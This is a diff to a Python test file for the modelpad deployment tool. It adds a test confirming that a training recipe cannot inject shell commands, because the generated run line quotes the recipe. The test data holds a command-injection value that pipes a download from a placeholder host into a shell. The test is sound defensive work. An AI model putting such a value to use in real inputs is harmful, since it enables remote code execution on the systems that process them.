@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -19,6 +20,7 @@ from modelpad.bundle import Bundle, open_bundle
 from modelpad.deploy.cloud_run import split_tag
 from modelpad.deploy.deployment import Deployment, Plan, Sizing
 from modelpad.deploy.image import find_extras
+from modelpad.deploy.sky import write_train
 from modelpad.deploy.targets import FILES, TARGETS, make_plan
 from modelpad.deploy.wheel import NAME
 from modelpad.errors import Unsupported
@@ -339,6 +341,13 @@ def test_sky(write_target: Write, name: str) -> None:
     assert task.use_spot
     if name == "serve.yaml":
         assert task.service.readiness_path == "/readyz"
+
+
+def test_a_bundle_cannot_run_commands_in_a_training(digits: Bundle) -> None:
+    recipe = "digits; curl example.com | sh"
+    manifest = replace(digits.manifest, training={"recipe": recipe})
+    task: Any = write_train(ResolvedBundle("digits", 1, replace(digits, manifest=manifest)))
+    assert recipe in shlex.split(task["run"])
 
 
 def test_models_of_texts_bring_their_tokenizer(digits: Bundle) -> None:
